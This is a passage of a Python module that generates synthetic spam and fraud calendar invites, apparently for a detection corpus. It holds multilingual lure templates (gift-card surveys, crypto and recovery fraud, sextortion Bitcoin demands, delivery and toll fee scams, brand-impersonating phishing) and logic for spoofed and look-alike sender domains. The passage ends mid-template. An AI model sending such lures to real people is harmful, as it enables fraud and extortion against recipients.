# -*- coding: utf-8 -*-
"""Spam / fraud scenarios. All wording, brands mixes, domains and numbers were written for this corpus."""
import datetime as dt

from .content import (att, rc_att, sc_base, colleagues, strangers, junk_local, lookalike_of, tx_preset, list_unsub)
from .l10n import date_fmt, ORGS, PEOPLE, FREEMAIL
from .util import ralnum, rdigits, rhex, rHEX, ruuid

# ------------------------------------------------------------------ generic helpers

CLIENT_PHRASE = {
    "google": "Google Calendar invite", "exchange": "Exchange/Outlook invite", "outlook": "Outlook desktop invite",
    "icloud": "iCloud invite", "applemail": "Apple Calendar invite", "thunderbird": "Thunderbird invite",
    "zoom": "Zoom registration mail", "nextcloud": "Nextcloud invite", "zimbra": "Zimbra invite",
    "yahoo": "Yahoo Calendar invite", "sogo": "SOGo invite", "transactional": "ESP-sent calendar mail",
    "handrolled": "script-sent calendar mail",
}
KIND_PHRASE = {
    "consumer": "free-mail account", "org": "compromised real mailbox", "lookalike": "look-alike domain",
    "spoof": "spoofed sender domain", "vps": "throw-away domain on a VPS", "esp": "abused ESP account",
    "platform": "platform's own sender",
}


def describe(ctx, sc):
    return "%s, %s" % (CLIENT_PHRASE[ctx.bclient], KIND_PHRASE.get(sc["kind"], sc["kind"]))


def S0(ctx):
    rc = ctx.rcpt
    first = ctx.first(rc[0]) if rc[0] else rc[1].split("@")[0].split(".")[0].capitalize()
    la = ctx.local_arrival()
    return dict(first=first, remail=rc[1], date=date_fmt(ctx.lang, la, with_time=False),
                enddate=date_fmt(ctx.lang, la + dt.timedelta(days=ctx.r.randint(1, 4)), with_time=False),
                rcompany=(ctx.rcpt_org[0] if ctx.rcpt_org else rc[1].split("@")[1].split(".")[0].capitalize()))


def fmt(t, S):
    return t.format(**S) if t else t


def link(ctx, *words, path=None, p_abuse=0.25, p_short=0.12):
    r = ctx.r
    x = r.random()
    if x < p_abuse:
        return ctx.abuse_url()
    if x < p_abuse + p_short:
        return ctx.short_url()
    dom = ctx.shady(*words)
    if r.random() < 0.3:
        dom = r.choice(["www.", "secure.", "my.", "app.", "portal."]) + dom
    p = path or r.choice(["/", "/?id=%s" % ctx.slug(8), "/%s" % ctx.slug(6), "/s/%s" % ctx.slug(10),
                          "/claim?c=%s" % ctx.slug(12), "/index.php?r=%s" % rdigits(r, 6), "/l/%s" % ctx.slug(7)])
    return "https://" + dom + p


def wa_link(ctx, num):
    return "https://wa.me/%s" % "".join(c for c in num if c.isdigit())


def ev_attendees(ctx, lo, hi):
    a = strangers(ctx, ctx.r.randint(lo, hi))
    a.insert(ctx.r.randint(0, len(a)), rc_att(ctx))
    return a


def ident(ctx, ids, prefs):
    """pick a sender kind the client can carry and the matching identity"""
    r = ctx.r
    kind = ctx.kind(prefs)
    if ctx.bclient in ("handrolled", "outlook", "thunderbird") and r.random() < 0.45:
        for k in ("spoof", "vps"):
            if k in prefs:
                kind = k
                break
    if kind == "platform":
        return kind, None, None, None
    v = ids.get(kind)
    name = ids.get("name")
    if v is None:
        if kind == "consumer":
            v = (name, junk_local(ctx, name if name and name.isascii() and r.random() < 0.5 else None), None)
        elif kind == "org":
            o = ctx.org(r.choice([ctx.lang, "en"]))
            p = ctx.person(r.choice([ctx.lang, "en"]) if ctx.lang in PEOPLE else "en")
            v = (ids.get("org_name", p[0]), p[1], o[1])
        elif kind == "lookalike":
            v = (name, r.choice(["info", "support", "service", "noreply", "billing", "team", "notice"]),
                 ctx.shady(*ids.get("words", ["secure", "notice"]), tlds=[".com", ".net", ".org", ".co", ".info", ".online"]))
        elif kind == "spoof":
            o = ctx.org(r.choice([ctx.lang, "en"]))
            v = (name, r.choice(["info", "office", "accounts", "billing", "noreply", "service"]), o[1])
        elif kind == "vps":
            v = (name, r.choice(["info", "news", "mail", "service", "promo", "hello"]), None)
        elif kind == "esp":
            v = (name, r.choice(["noreply", "no-reply", "info", "notifications", "hello"]),
                 ctx.shady(*ids.get("words", ["mail", "notify"]), tlds=[".com", ".net", ".io", ".co", ".app"]))
    return kind, v[0], v[1], v[2]


def finish(ctx, ids, prefs, events, note, subject=None, body=None, method="REQUEST", html=None, conf=None,
           zoom_title=None, extra=None):
    r = ctx.r
    kind, name, local, domain = ident(ctx, ids, prefs)
    if name and ctx.rcpt[0] and name == ctx.rcpt[0]:
        name = ctx.person("en")[0] if name.isascii() else ctx.person()[0]
    sc = sc_base(ctx, kind, name, local, domain)
    sc["events"] = events
    sc["method"] = method
    cl = ctx.bclient
    if cl == "zoom":
        host = ids.get("consumer") or (ids.get("name") or ctx.person("en")[0],
                                       junk_local(ctx, None), None)
        hd = host[2] or r.choice(["gmail.com", "outlook.com", "gmail.com", "hotmail.com", "yahoo.com"])
        if host[0] and host[0] == ctx.rcpt[0]:
            host = (ctx.person("en")[0], host[1], host[2])
        sc["host"] = (host[0], "%s@%s" % (host[1], hd))
        sc["conf_type"] = "zoom"
        sc["method"] = "PUBLISH" if method == "REQUEST" else method
        sc["no_org_attendee"] = True
        if subject:
            sc["subject"] = subject
        if body is not None:
            sc["body"] = body
        for e in events:
            e.pop("attendees", None)
    elif cl in ("transactional", "handrolled"):
        if cl == "transactional":
            sc["esp"] = r.choice(["sendgrid", "sendgrid", "ses", "mailgun", "postmark", "inhouse"])
        tx_preset(ctx, sc, role="spam", method=r.choice([method, method, method, None, "PUBLISH"]))
        if r.random() < 0.2 and sc["method"]:
            sc["tx"]["ct_method"] = r.choice(["REQUEST", "PUBLISH"])
        if r.random() < 0.15:
            sc.setdefault("quirks", set()).add("lf-ics")
        sc["subject"] = subject or events[0]["summary"]
        sc["body"] = body if body is not None else (events[0].get("description") or events[0]["summary"])
        if html:
            sc["html"] = html
    else:
        if subject:
            sc["subject"] = subject
        if body is not None:
            sc["body"] = body
    if conf and cl != "zoom":
        sc["conf_type"] = conf
    if extra:
        sc.update(extra)
    sc["desc"] = "%s; %s" % (note, describe(ctx, sc))
    return sc


def listify(sc, ctx):
    r = ctx.r
    o = ctx.org(r.choice(["en", ctx.lang]))
    base = o[1]
    flavor = r.choice(["googlegroups", "googlegroups", "mailman2", "mailman3", "sympa"])
    name = r.choice(["members", "announce", "community", "general", "discuss", "info", "alumni", "news", "volunteers",
                     "staff", "users"])
    if flavor == "googlegroups":
        name = base.split(".")[0] + "-" + name
        ldom = "googlegroups.com"
    else:
        ldom = "lists." + base
    title = "%s %s" % (o[0], name.split("-")[-1])
    sc["list"] = dict(flavor=flavor, name=name, domain=ldom, title=title)
    laddr = "%s@%s" % (name, ldom)
    sc["to"] = [(None, laddr)]
    sc["invitee"] = (None, laddr)
    for e in sc["events"]:
        atts = e.get("attendees")
        if atts:
            for a in atts:
                if a["email"] == ctx.rcpt[1]:
                    a["email"], a["name"] = laddr, None
        else:
            e["attendees"] = [att(None, laddr)]
    sc["desc"] += " (posted to an open mailing list; list copy)"


# ------------------------------------------------------------------ 1 retail sale waves

BRANDS = ["Ray-Ban", "Oakley", "UGG", "Michael Kors", "Pandora", "Nike", "Coach", "Lululemon", "Canada Goose",
          "Kate Spade", "Longchamp", "Skechers", "YETI", "Le Creuset", "Dyson", "Birkenstock"]
RETAIL = {
    "en": [
        ("{brand} Sunglasses {pct}% OFF – Today Only ${price}",
         "{brand} official clearance. All styles ${price}, free shipping worldwide.\nOffer ends {enddate}. Limited stock!\n{link}", "{dom}"),
        ("{brand} Outlet Store Closing – Everything ${price}",
         "Final days before we close our online outlet. Up to {pct}% off bags, shoes and accessories.\nShop now: {link}", "Online"),
        ("{season} Early Access: {brand} up to {pct}% off",
         "Your early access code: BF{code}\n{link}", "{link}"),
        ("{season2}! {brand} from ${price}", "", "{dom}"),
        ("{brand} {season} Clearance — {pct}% off, order today",
         "Stay warm this winter. Genuine {brand}, fast delivery, 30-day returns.\n→ {link}", "{brand} Official Store"),
        ("Your exclusive coupon: extra {pct}% off {brand}",
         "Use code {code} at checkout. Valid 48 hours.\n{link}\n\nTo unsubscribe reply STOP", None),
    ],
    "zh": ("【{brand}】年终清仓 全场{zd}折 仅需¥{price}",
           "官方授权折扣店，全场包邮，七天无理由退换。\n库存有限，先到先得！\n立即抢购：{link}", "{dom}"),
    "zh-TW": ("{brand} 太陽眼鏡 週年慶 全館1折起 免運費",
              "限時三天！正品保證，全館一律 NT${price}。\n立即選購：{link}", "{link}"),
    "ja": ("【{brand}】在庫一掃セール 最大{pct}%OFF 本日限り",
           "ブランド正規品が驚きの価格で！全品送料無料。\n今すぐチェック → {link}", "{dom}"),
    "de": ("{brand} Sonnenbrillen: alles nur {price} € – nur heute",
           "Räumungsverkauf im offiziellen Online-Outlet. Versandkostenfrei bis {enddate}.\n{link}", "Online-Shop"),
    "fr": ("Soldes {brand} : -{pct} % sur tout le site",
           "Liquidation totale, livraison gratuite sous 48 h. Offre valable jusqu'au {enddate}.\n{link}", "{dom}"),
    "ko": ("[{brand}] 창고 대방출 최대 {pct}% 할인 오늘만!",
           "정품 100% 보장, 전 상품 무료배송. 수량 한정!\n바로가기: {link}", "{link}"),
}


def f_retail(ctx):
    r = ctx.r
    S = S0(ctx)
    T = RETAIL[ctx.lang]
    if ctx.lang == "en":
        T = T[ctx.i % len(T)]
    if "unglasses" in T[0] or "Sonnenbrillen" in T[0] or "太陽眼鏡" in T[0]:
        brand = r.choice(["Ray-Ban", "Oakley", "Coach", "Michael Kors", "Kate Spade", "Persol"])
    else:
        brand = r.choice(BRANDS)
    slug = brand.lower().replace(" ", "").replace("-", "").replace("'", "")
    dom = ctx.shady(slug, r.choice(["outlet", "sale", "store", "shop", "deals", "official", "clearance"]),
                    tlds=[".top", ".shop", ".store", ".online", ".com", ".us", ".xyz", ".cn.com"] if ctx.year > 2017
                    else [".com", ".us", ".org", ".net"])
    lk = "https://%s/%s" % (dom, r.choice(["", "?utm=%s" % ctx.slug(6), "sale/%s" % ctx.slug(5), "index.html"]))
    if r.random() < 0.2:
        lk = ctx.short_url()
    S.update(brand=brand, pct=r.choice([70, 75, 80, 85, 90]), price=r.choice(["19.99", "19.90", "23.99", "29.99", "9.99", "39"]),
             code=rdigits(r, 4), link=lk, dom=dom, zd=r.choice(["1", "2", "1.5"]))
    mo = ctx.local_arrival().month
    S["season"] = {11: "Black Friday", 12: "Holiday", 1: "New Year", 2: "Winter"}.get(mo, "Spring" if mo < 6 else "Summer" if mo < 9 else "Autumn")
    S["season2"] = {11: "Black Friday Deals", 12: "Happy Holidays", 1: "Happy New Year", 2: "Valentine's Special"}.get(
        mo, "Spring Sale" if mo < 6 else "Summer Sale" if mo < 9 else "Autumn Sale")
    summ, desc, loc = (fmt(x, S) for x in T)
    ev = ctx.ev(summ, desc or None, loc, ctx.at(days=(0, 10), hour=(8, 20)), attendees=ev_attendees(ctx, 2, 35))
    if not desc:
        ev["altdesc"] = '<html><body><a href="%s"><img src="https://%s/img/banner%d.jpg" alt="%s"></a></body></html>' % (
            lk, dom, r.randint(1, 9), brand)
        ev["url"] = lk
    elif r.random() < 0.3:
        ev["url"] = lk
    ids = dict(name=r.choice([brand + " Official", brand + " Outlet", "Best Deals", None, "Shop Online",
                              ctx.person(ctx.lang)[0]]),
               words=[slug, "outlet"])
    return finish(ctx, ids, ["consumer", "vps", "esp", "org", "lookalike"], [ev],
                  "retail sale wave for %s with shop link" % brand)


# ------------------------------------------------------------------ 2 prize / survey / gift-card lures

PRIZE = {
    "en": [
        ("Congratulations {first}! You've been selected for a ${amount} {retailer} Gift Card",
         "Complete our 30-second customer survey to claim your reward.\nOnly {n} rewards left today.\n{link}", None, None),
        ("Your {retailer} points ({pts}) expire tonight",
         "Redeem now for exclusive rewards before midnight: {link}", "{retailer} Rewards", None),
        ("Final notice: unclaimed reward #{ref}",
         "Hello,\n\nThis is a courtesy reminder regarding your pending reward. Details are in the attached document.\n\nCustomer Care",
         None, "attach"),
        ("{carrier} Customer Appreciation – iPhone 15 Pro for ${ship}",
         "You are one of 3 winners selected this week. Pay only the shipping fee (${ship}) to receive your prize.\n{link}",
         None, None),
        ("Thank you for being a loyal {retailer} customer",
         "As a thank-you, you can claim a Dyson V15 at no cost. Answer 4 quick questions: {link}", "{retailer} Rewards Center", None),
        ("{first}, your feedback is worth ${amount}", "", "Online survey (5 min)", "url"),
    ],
    "de": ("Herzlichen Glückwunsch! Ihr {retailer}-Gutschein über {amount} € wartet",
           "Nehmen Sie an unserer kurzen Kundenumfrage teil (nur 30 Sekunden) und sichern Sie sich Ihren Gutschein:\n{link}\n\nNur noch heute gültig.",
           None, None, ["Lidl", "Aldi", "dm", "Rossmann", "Kaufland", "MediaMarkt"]),
    "fr": ("Félicitations ! Vous avez été sélectionné(e) pour une carte cadeau {retailer} de {amount} €",
           "Répondez à notre questionnaire de satisfaction (1 minute) pour recevoir votre récompense :\n{link}",
           None, None, ["Carrefour", "Leclerc", "Decathlon", "Fnac", "Auchan"]),
    "pt": ("Parabéns! Você ganhou um kit {retailer} – pague apenas o frete de R$ {ship}",
           "Seu cadastro foi sorteado na promoção de aniversário. Confirme seus dados para envio:\n{link}",
           None, None, ["O Boticário", "Natura", "Magazine Luiza", "Americanas"]),
    "it": ("Congratulazioni! Sei stato selezionato per un buono {retailer} da {amount} €",
           "Completa il breve sondaggio e ricevi il tuo buono regalo entro 24 ore:\n{link}",
           None, None, ["Esselunga", "Conad", "MediaWorld", "Coop"]),
    "nl": ("Gefeliciteerd! U maakt kans op een {retailer} cadeaukaart van € {amount}",
           "Beantwoord 3 korte vragen en claim uw cadeaukaart. Actie geldig tot {enddate}.\n{link}",
           None, None, ["Albert Heijn", "Jumbo", "Bol", "Kruidvat"]),
    "pl": ("Gratulacje! Twój bon {retailer} o wartości {amount} zł czeka na odbiór",
           "Wypełnij krótką ankietę (30 sekund), aby odebrać nagrodę:\n{link}",
           None, None, ["Biedronka", "Lidl", "Rossmann", "Żabka"]),
}


def f_prize(ctx):
    r = ctx.r
    S = S0(ctx)
    T = PRIZE[ctx.lang]
    if ctx.lang == "en":
        T = T[ctx.i % len(T)]
        retailer = r.choice(["Walmart", "Costco", "Amazon", "Target", "Kohl's", "Lowe's", "Home Depot", "CVS", "Sam's Club"])
    else:
        retailer = r.choice(T[4])
    slug = retailer.lower().replace(" ", "").replace("'", "").replace("ż", "z")
    lk = link(ctx, slug, r.choice(["reward", "survey", "gift", "bonus", "prize"]), p_abuse=0.35)
    S.update(retailer=retailer, amount=r.choice([100, 250, 500, 750, 1000]), n=r.randint(3, 17), link=lk,
             pts="{:,}".format(r.randint(4000, 60000)), ref=rdigits(r, 7), ship=r.choice(["1.95", "2.00", "2.95", "4.99"]),
             carrier=r.choice(["Verizon", "AT&T", "T-Mobile", "Spectrum", "Vodafone"]))
    if ctx.lang in ("pt", "de", "fr", "it", "nl", "pl"):
        S["ship"] = S["ship"].replace(".", ",")
    summ, desc, loc, where = fmt(T[0], S), fmt(T[1], S), fmt(T[2], S), T[3]
    ev = ctx.ev(summ, desc or None, loc, ctx.at(days=(0, 7), hour=(7, 21)),
                attendees=ev_attendees(ctx, 0, 12))
    if where == "attach":
        ev["attach"] = [(lk if "reward" in lk or r.random() < 0.5 else lk, {"FMTTYPE": "text/html", "FILENAME": "reward_%s.html" % S["ref"]})]
    if where == "url" or (not desc):
        ev["url"] = lk
    ids = dict(name=r.choice(["%s Rewards" % retailer, "Customer Survey", "%s Promotions" % retailer, "Prize Dept.",
                              None, "Loyalty Team"]), words=[slug, "rewards"])
    return finish(ctx, ids, ["consumer", "esp", "vps", "org", "lookalike"], [ev],
                  "%s gift-card/survey prize lure" % retailer)


# ------------------------------------------------------------------ 3 crypto / investment fraud

CRYPTO = {
    "en": [
        ("Your Bitcoin wallet: {btcamt} BTC (${usd}) pending withdrawal",
         "Funds from your automated trading account are ready for payout.\nConfirm the withdrawal within 24 hours: {link}\nSupport: Telegram @{tg}", None),
        ("{coin} Airdrop – claim your {tok} {coin}",
         "Your wallet was included in the snapshot for the {coin} community airdrop.\nConnect your wallet to claim before {enddate}:\n{link}", None),
        ("Private investor call: AI trading – 3-5% daily returns",
         "Join our free onboarding call with senior analyst {aname}. Limited seats, registration closes soon.", "https://t.me/{tg}"),
        ("Re: your crypto recovery case #{ref}",
         "Dear client,\n\nOur blockchain forensics team has traced {btcamt} BTC of your lost funds. To release them, a network verification fee of ${fee} is required.\nSchedule your call with the recovery officer: {link}", None),
        ("Gold & Forex VIP signals – free 7-day trial",
         "Over 2,400 members earning daily. Join the VIP WhatsApp group: {walink}", "WhatsApp"),
        ("Portfolio review with your account manager",
         "Dear investor,\n\nyour account manager {aname} has scheduled a call to discuss your current balance of ${usd}.\nPlease keep your phone available.\n\nClient portal: {link}", "Phone call"),
    ],
    "ru": [
        ("Ваш доход по инвестиционной программе: {rub} ₽ готов к выводу",
         "Уважаемый клиент!\nНа вашем счёте накоплено {rub} ₽. Подтвердите вывод средств до {enddate}:\n{link}", None),
        ("Закрытый вебинар: пассивный доход от 150 000 ₽ в месяц на криптовалюте",
         "Количество мест ограничено. Участие бесплатное для подписчиков канала.", "https://t.me/{tg}"),
    ],
    "ar": ("أرباحك من منصة التداول: {usd} دولار جاهزة للسحب",
           "عميلنا العزيز،\nتم إيداع أرباحك في حسابك. لتأكيد السحب يرجى الدخول قبل {enddate}:\n{link}\nللدعم عبر واتساب: {wa}", None),
    "hi": ("क्रिप्टो ट्रेडिंग ग्रुप – रोज़ाना 5% मुनाफ़ा",
           "हमारे विशेषज्ञ रोज़ाना मुफ़्त सिग्नल भेजते हैं। अभी WhatsApp ग्रुप से जुड़ें: {walink}\nसीमित सीटें!", None),
    "th": ("ลงทุนคริปโตกับ AI กำไรวันละ 3-5% รับโบนัสทันที 1,000 บาท",
           "ไม่ต้องมีประสบการณ์ เริ่มต้นเพียง 500 บาท\nแอดไลน์เพื่อรับสิทธิ์: {line}", "LINE: {line}"),
    "ja": ("【重要】ビットコイン口座の残高 {btcamt} BTC の出金手続きについて",
           "お客様の自動売買口座に利益が確定しました。\n24時間以内に出金手続きを完了してください。\n{link}", None),
}


def f_crypto(ctx):
    r = ctx.r
    S = S0(ctx)
    T = CRYPTO[ctx.lang]
    if isinstance(T, list):
        T = T[ctx.i % len(T)]
    coin = r.choice(["ARB", "STRK", "ZKS", "PEPE2", "SOLX", "LayerNet", "BLAST", "W"])
    wa = ctx.mobile(r.choice(["uk", "ng", "id", "hk", "ae", "th", "in"]))
    lk = link(ctx, r.choice(["btc", "coin", "trade", "invest", "wallet", coin.lower()]),
              r.choice(["pro", "capital", "fx", "ai", "claim", "finance"]), p_abuse=0.2)
    S.update(btcamt="%.4f" % (r.uniform(0.2, 3.5)), usd="{:,}".format(r.randint(8000, 180000)), link=lk,
             tg=ctx.tg(r.choice(["support_desk", "vip_signals", "investclub", "ai_trade", "capital_help"])),
             coin=coin, tok="{:,}".format(r.randint(500, 25000)), aname=ctx.person("en")[0], ref=rdigits(r, 6),
             fee="{:,}".format(r.randint(450, 3900)), walink=r.choice([wa_link(ctx, wa), "https://chat.whatsapp.com/" + ralnum(r, 22)]),
             wa=wa, rub="{:,}".format(r.randint(90000, 900000)).replace(",", " "), line="@" + ctx.slug(7),
             enddate=S["enddate"])
    summ, desc, loc = fmt(T[0], S), fmt(T[1], S), fmt(T[2], S)
    ev = ctx.ev(summ, desc, loc, ctx.at(days=(1, 14), hour=(9, 20), dur=r.choice([30, 45, 60])),
                attendees=ev_attendees(ctx, 0, 8))
    if r.random() < 0.3 and "http" in desc:
        ev["url"] = lk
    ids = dict(name=r.choice(["Support Team", "Client Services", S["aname"], "Crypto Desk", None, "Wallet Security",
                              ctx.person(ctx.lang)[0]]), words=["trade", coin.lower()])
    return finish(ctx, ids, ["consumer", "lookalike", "org", "esp", "vps"], [ev],
                  "crypto/investment fraud (wallet payout, airdrop, signals or recovery)")


# ------------------------------------------------------------------ 4 dating / sextortion

DATING = {
    "en": [
        ("Jessica (24) sent you a private message 💋",
         "Hey {first} 😊 I saw your profile and I think we have a lot in common. I'm only 3 km away. My photos are here: {link}", "date"),
        ("Drinks tonight? 😘",
         "I'm new in town and don't know anyone yet. Write me here so we can chat: {link}", "date"),
        ("Your privacy",
         "Hello,\n\nI have had access to your device for several months. I recorded you through your camera while you visited certain websites.\nTransfer $1,450 in Bitcoin to this address within 48 hours:\n{btc}\nIf I receive the payment, I will delete everything. Otherwise the video goes to all your contacts.\nDo not reply to this message.", "sext"),
        ("{remail} – read this carefully",
         "I know more about you than you think. Your account {remail} was compromised and I installed software on your device.\nI have videos of you. Send $1,950 (BTC) to {btc} and you will never hear from me again.\nYou have 2 days.", "sext"),
        ("You have 3 new matches nearby", "", "date-attach"),
    ],
    "de": ("Ihre Privatsphäre ist in Gefahr",
           "Hallo,\n\nich habe vor einigen Monaten Zugriff auf Ihr Gerät erhalten und Sie über die Kamera aufgenommen.\nÜberweisen Sie 1.200 € in Bitcoin an folgende Adresse:\n{btc}\nSie haben 48 Stunden Zeit. Danach wird das Video an alle Ihre Kontakte gesendet.", "sext"),
    "fr": ("Sophie souhaite vous rencontrer ce soir",
           "Coucou {first} ! Je suis célibataire et je cherche quelqu'un de sympa près de chez moi. Mes photos privées : {link}", "date"),
    "it": ("Ho registrato un video – leggi subito",
           "Ciao,\nho avuto accesso al tuo dispositivo e ti ho registrato tramite la webcam.\nInvia 1.300 € in Bitcoin a questo indirizzo entro 48 ore:\n{btc}\nAltrimenti il video sarà inviato a tutti i tuoi contatti.", "sext"),
    "nl": ("Lisa (31) wil je ontmoeten – bekijk haar foto's",
           "Hoi! Ik woon bij jou in de buurt en ben op zoek naar een leuke afspraak. Kijk hier: {link}", "date"),
    "es": ("Tengo un vídeo tuyo",
           "Hola,\nhe tenido acceso a tu dispositivo durante meses y te grabé con la cámara.\nEnvía 1.250 € en Bitcoin a esta dirección en 48 horas:\n{btc}\nSi no, enviaré el vídeo a todos tus contactos.", "sext"),
    "ru": ("Катя, 23: привет, давай познакомимся 😊",
           "Привет! Я недавно переехала в твой город, хочу найти здесь друзей. Мои фото тут: {link}", "date"),
}


def f_dating(ctx):
    r = ctx.r
    S = S0(ctx)
    T = DATING[ctx.lang]
    if isinstance(T, list):
        T = T[ctx.i % len(T)]
    lk = link(ctx, r.choice(["meet", "date", "flirt", "hot", "love", "single"]), r.choice(["local", "chat", "girls", "now"]),
              p_abuse=0.3, p_short=0.2)
    S.update(link=lk, btc=ctx.btc())
    summ, desc, kind = fmt(T[0], S), fmt(T[1], S), T[2]
    ev = ctx.ev(summ, desc or None, None, ctx.at(days=(0, 2), hour=(17, 23)), attendees=[rc_att(ctx)])
    if kind == "date-attach":
        ev["attach"] = [(lk, {"FMTTYPE": "text/html"})]
        ev["location"] = "Online"
    if kind.startswith("date"):
        nm = r.choice(["Jessica", "Anna", "Sophie", "Lisa", "Katya", "Mia", "Olivia", "Laura", "Nina"])
        ids = dict(name=nm)
        prefs = ["consumer", "vps", "esp", "org", "lookalike"]
        note = "dating lure linking to an adult/dating site"
    else:
        ids = dict(name=r.choice([None, "Support", ctx.rcpt[1].split("@")[0], "Security Notice"]))
        if r.random() < 0.5:
            # sextortion mails often pretend to come from the victim's own address
            ids["spoof"] = (None, ctx.rcpt[1].split("@")[0], ctx.rcpt[1].split("@")[1])
        prefs = ["spoof", "consumer", "vps", "org", "esp", "lookalike"]
        note = "sextortion demanding Bitcoin (address only, no link)"
    return finish(ctx, ids, prefs, [ev], note)


# ------------------------------------------------------------------ 5 delivery / toll / tax / fine fee scams

FEE = {
    "en": [
        ("USPS: Your package could not be delivered",
         "Your parcel {trk} is on hold due to an incomplete address.\nA redelivery fee of $1.99 is required.\nSchedule redelivery: {link}", "usps", 2019),
        ("Unpaid toll notice – ${amt} due today",
         "Our records show an unpaid toll balance for your vehicle. Pay now to avoid a ${late} late fee and suspension of your registration:\n{link}",
         "toll", 2023),
        ("HMRC: You are eligible for a tax refund of £{amt}",
         "After the annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund.\nSubmit your claim before {enddate}: {link}",
         "hmrc", 2016),
        ("Royal Mail: Parcel held – £2.99 customs charge",
         "We were unable to deliver your parcel {trk}. Please pay the outstanding customs charge of £2.99 to book a new delivery date:\n{link}",
         "royalmail", 2016),
        ("myGov: outstanding tax debt – action required",
         "Our records indicate an outstanding balance of ${amt}. To avoid penalties, verify your details and arrange payment:\n{link}",
         "mygov", 2017),
        ("Final notice: unpaid traffic violation – pay within 48h",
         "To avoid suspension of your driving privileges, pay the outstanding fine of ${amt}:\n{link}", "dmv", 2022),
    ],
    "he": ("דואר ישראל: החבילה שלך ממתינה לתשלום מכס של 9.90 ₪",
           "שלום,\nהחבילה {trk} מעוכבת במרכז המיון עקב חוב מכס.\nיש להסדיר את התשלום עד {enddate}:\n{link}", "israelpost", 2016),
    "el": ("ΕΛΤΑ: Το δέμα σας βρίσκεται σε αναμονή – τέλος 1,99 €",
           "Το δέμα σας {trk} δεν μπόρεσε να παραδοθεί λόγω ελλιπούς διεύθυνσης.\nΕπιβεβαιώστε τα στοιχεία σας και πληρώστε το τέλος επαναποστολής:\n{link}",
           "elta", 2016),
    "th": ("ไปรษณีย์ไทย: พัสดุของคุณถูกระงับ กรุณาชำระค่าธรรมเนียม 29 บาท",
           "พัสดุหมายเลข {trk} ไม่สามารถจัดส่งได้เนื่องจากที่อยู่ไม่ครบถ้วน\nกรุณายืนยันที่อยู่และชำระค่าธรรมเนียมภายใน 24 ชั่วโมง:\n{link}",
           "thaipost", 2016),
    "ko": ("[우체국] 주소 불일치로 배송이 보류되었습니다",
           "고객님의 택배({trk})가 주소 불일치로 보류되었습니다.\n아래 링크에서 주소를 수정해 주세요.\n{link}", "epost", 2016),
    "fr": ("ANTAI : avis de contravention – paiement de 35 € avant le {enddate}",
           "Vous avez commis une infraction au code de la route. Réglez l'amende forfaitaire de 35 € pour éviter une majoration à 75 € :\n{link}",
           "antai", 2016),
    "es": ("DGT: multa pendiente de pago – 100 € (50 % de descuento hoy)",
           "Tiene una sanción de tráfico pendiente. Abone la multa con reducción del 50 % antes de {enddate}:\n{link}", "dgt", 2016),
}


def f_fee(ctx):
    r = ctx.r
    S = S0(ctx)
    T = FEE[ctx.lang]
    if isinstance(T, list):
        cands = [t for t in T if t[3] <= ctx.year]
        T = cands[ctx.i % len(cands)]
    key = T[2]
    tollbrand = r.choice(["E-ZPass", "SunPass", "FasTrak", "TxTag", "The Toll Roads"])
    words = {"usps": ["usps", "redelivery"], "toll": [tollbrand.lower().replace(" ", "").replace("-", ""), "pay"],
             "hmrc": ["hmrc", "refund"], "royalmail": ["royalmail", "redelivery"], "mygov": ["mygov", "ato"],
             "dmv": ["dmv", "citation"], "israelpost": ["israelpost", "customs"], "elta": ["elta", "courier"],
             "thaipost": ["thailandpost", "th"], "epost": ["epost", "kr"], "antai": ["antai", "amendes"],
             "dgt": ["dgt", "multas"]}[key]
    lk = link(ctx, *words, path=r.choice(["/", "/track?id=%s" % ctx.slug(8), "/pay", "/%s" % ctx.slug(5), "/i"]),
              p_abuse=0.1, p_short=0.15)
    S.update(link=lk, trk=r.choice(["US", "LX", "RR", "EE", "CP"]) + rdigits(r, 9) + r.choice(["US", "GB", "IL", "GR", "TH", "KR"]),
             amt=r.choice(["6.99", "11.69", "4.15", "12.51", "326.50", "87.40", "250.00"]), late=r.choice(["50", "75", "40"]))
    if key == "toll":
        S["amt"] = r.choice(["6.99", "11.69", "4.15", "12.51", "3.35"])
    elif key in ("hmrc", "mygov"):
        S["amt"] = r.choice(["326.50", "487.20", "612.08", "258.91", "1,142.60"])
    elif key == "dmv":
        S["amt"] = r.choice(["85.00", "150.00", "112.50", "240.00"])
    summ, desc = fmt(T[0], S), fmt(T[1], S)
    ev = ctx.ev(summ, desc, r.choice([None, lk, "Online"]), ctx.at(days=(0, 5), hour=(8, 18), dur=30),
                attendees=ev_attendees(ctx, 0, 3))
    if r.random() < 0.3:
        ev["url"] = lk
    names = {"usps": "USPS", "toll": tollbrand, "hmrc": "HMRC", "royalmail": "Royal Mail", "mygov": "myGov",
             "dmv": "DMV Notice", "israelpost": "דואר ישראל", "elta": "ΕΛΤΑ Courier", "thaipost": "ไปรษณีย์ไทย",
             "epost": "우체국택배", "antai": "ANTAI", "dgt": "DGT"}
    ids = dict(name=r.choice([names[key], names[key], None, "Notification"]), words=words)
    return finish(ctx, ids, ["esp", "lookalike", "consumer", "vps", "org"], [ev],
                  "%s fee/fine smishing-style lure" % names[key] if key in ("usps", "hmrc", "antai", "dgt", "mygov")
                  else "delivery/toll/fine fee lure (%s)" % key)


# ------------------------------------------------------------------ 6 credential phishing under brands

PHISH = {
    "en": [
        ("Password expiry notice for {remail}",
         "Your Microsoft 365 password expires today.\nTo keep using your current password, verify here: {link}\n\nIT Service Desk",
         "m365", ["Microsoft 365 Admin", "IT Helpdesk", "Office365 Support"]),
        ("Completed: Please DocuSign: {rcompany} Agreement.pdf", "", "docusign", ["DocuSign", "DocuSign via eSignature", None]),
        ("PayPal: your account has been limited – Case ID PP-{ref}",
         "We noticed unusual activity on your account. Until you confirm your information, some features are limited.\nResolve now: {link}",
         "paypal", ["PayPal", "service@intl.paypal", "PayPal Resolution"]),
        ("Unusual sign-in detected – {bank} Online Banking",
         "A sign-in from a new device ({device}, {city}) was detected on {date}. If this wasn't you, secure your account: {link}",
         "bank", ["{bank} Alerts", "{bank}"]),
        ("{sname} shared \"Invoice_{ref}.pdf\" via Adobe Document Cloud",
         "You have been given access to a secure document.\nOpen: {link}", "adobe", ["Adobe Document Cloud", "{sname} via Adobe"]),
        ("RFP documents review", "", "dropbox", ["{sname}", "{sname} (via Dropbox)"]),
        ("Quarterly performance review",
         "This meeting was canceled. Updated review notes and your evaluation are available on the HR portal:\n{link}",
         "hr", ["HR Department", "People Team"]),
    ],
    "de": ("Sparkasse: Ihr pushTAN-Verfahren muss bis {enddate} aktualisiert werden",
